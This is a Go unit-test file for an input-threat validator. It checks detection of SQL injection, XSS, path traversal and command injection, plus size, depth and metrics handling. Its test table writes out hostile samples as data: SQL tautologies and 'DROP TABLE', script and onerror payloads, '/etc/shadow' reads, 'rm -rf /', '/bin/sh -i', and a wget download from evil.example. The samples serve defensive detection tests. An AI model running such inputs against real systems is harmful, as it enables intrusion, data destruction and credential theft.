package threat

import (
	"errors"
	"strings"
	"testing"

	"github.com/go-logr/logr/testr"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func requireReason(t *testing.T, err error, want Reason) *ValidationError {
	t.Helper()
	var ve *ValidationError
	require.True(t, errors.As(err, &ve), "expected *ValidationError, got %v", err)
	require.Equal(t, want, ve.Reason)
	return ve
}

func hasType(findings []Finding, typ FindingType) bool {
	for _, f := range findings {
		if f.Type == typ {
			return true
		}
	}
	return false
}

func TestValidate_CleanPayloadPasses(t *testing.T) {
	v := New(DefaultConfig(), WithLogger(testr.New(t)))
	findings, err := v.Validate(map[string]any{
		"text":       "hello, the meeting moved to 10 or 11 tomorrow",
		"confidence": 0.9,
		"context":    map[string]any{"lang": "en", "tags": []any{"a", "b"}},
	})
	require.NoError(t, err)
	assert.Empty(t, findings)
}

func TestValidate_DetectsThreats(t *testing.T) {
	cases := []struct {
		name  string
		input string
		want  FindingType
	}{
		{"sql tautology", "admin' OR 1=1", SQLInjection},
		{"sql quoted tautology", "x' or 'a'='a", SQLInjection},
		{"union select", "1 UNION SELECT password FROM users", SQLInjection},
		{"stacked comment", "1; -- ", SQLInjection},
		{"stacked drop", "name'; DROP TABLE users", SQLInjection},
		{"script tag", "<script>alert(1)</script>", XSS},
		{"javascript uri", "<a href=\"javascript:alert(1)\">x</a>", XSS},
		{"event handler", "<img src=x onerror=alert(1)>", XSS},
		{"dotdot", "../../etc/passwd", PathTraversal},
		{"encoded traversal", "%2e%2e%2fetc%2fpasswd", PathTraversal},
		{"system path", "read /etc/shadow please", PathTraversal},
		{"command chain", "file.txt; rm -rf /", CommandInjection},
		{"system call", "system(\"id\")", CommandInjection},
		{"shell path", "exec /bin/sh -i", CommandInjection},
		{"downloader", "wget http://evil.example/x.sh", CommandInjection},
	}

	v := New(DefaultConfig())
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			findings, err := v.Validate(map[string]any{"content": tc.input})
			ve := requireReason(t, err, ReasonThreatDetected)
			assert.True(t, hasType(findings, tc.want), "expected %s in %+v", tc.want, findings)
			assert.NotContains(t, ve.Error(), tc.input, "error must not echo the input")
		})
	}
}

func TestValidate_ScansKeysAndNestedValues(t *testing.T) {
	v := New(DefaultConfig())
	findings, err := v.Validate(map[string]any{
		"context": map[string]any{
			"items": []any{"fine", map[string]any{"<script>": "x"}},
		},
	})
	requireReason(t, err, ReasonThreatDetected)
	require.NotEmpty(t, findings)
	assert.Equal(t, "context.items[1].<script>", findings[0].Field)
}

func TestValidate_DetectorsAreToggleable(t *testing.T) {
	cfg := DefaultConfig()
	cfg.SQLInjection = false
	v := New(cfg)

	_, err := v.Validate(map[string]any{"content": "' OR 1=1"})
	assert.NoError(t, err)

	_, err = v.Validate(map[string]any{"content": "<script>alert(1)</script>"})
	requireReason(t, err, ReasonThreatDetected)
}

func TestValidate_AllowedPathPrefixes(t *testing.T) {
	cfg := DefaultConfig()
	cfg.AllowedPathPrefixes = []string{"/var/log/app"}
	v := New(cfg)

	_, err := v.Validate(map[string]any{"content": "see /var/log/app/today.log"})
	assert.NoError(t, err)

	_, err = v.Validate(map[string]any{"content": "see /var/log/auth.log"})
	requireReason(t, err, ReasonThreatDetected)
}

func TestValidate_PayloadTooLarge(t *testing.T) {
	v := New(Config{MaxPayloadBytes: 64})
	_, err := v.Validate(map[string]any{"content": strings.Repeat("a", 100)})
	ve := requireReason(t, err, ReasonPayloadTooLarge)
	assert.Equal(t, 64, ve.Limit)
}

func TestValidate_SizeCountsMarkupBytesOnce(t *testing.T) {
	v := New(Config{MaxPayloadBytes: 64})

	// {"content":"..."} com 50 bytes de conteúdo ocupa exatamente 64 bytes
	_, err := v.Validate(map[string]any{"content": strings.Repeat("&", 50)})
	assert.NoError(t, err)

	_, err = v.Validate(map[string]any{"content": strings.Repeat("&", 51)})
	requireReason(t, err, ReasonPayloadTooLarge)
}

func nested(levels int) map[string]any {
	m := map[string]any{"leaf": "x"}
	for i := 1; i < levels; i++ {
		m = map[string]any{"n": m}
	}
	return m
}

func TestValidate_StructureDepth(t *testing.T) {
	v := New(DefaultConfig())

	_, err := v.Validate(nested(10))
	assert.NoError(t, err, "ten levels are allowed")

	_, err = v.Validate(nested(11))
	requireReason(t, err, ReasonStructureTooDeep)

	_, err = v.Validate(map[string]any{"list": []any{[]any{[]any{[]any{[]any{[]any{[]any{[]any{[]any{[]any{"x"}}}}}}}}}}})
	requireReason(t, err, ReasonStructureTooDeep)
}

func TestValidate_RecordsFindingMetrics(t *testing.T) {
	m := NewMetrics(prometheus.NewRegistry())
	v := New(DefaultConfig(), WithRecorder(m))

	_, _ = v.Validate(map[string]any{"content": "<script>alert(1)</script>"})
	assert.GreaterOrEqual(t, testutil.ToFloat64(m.Findings().WithLabelValues(string(XSS))), 1.0)
}
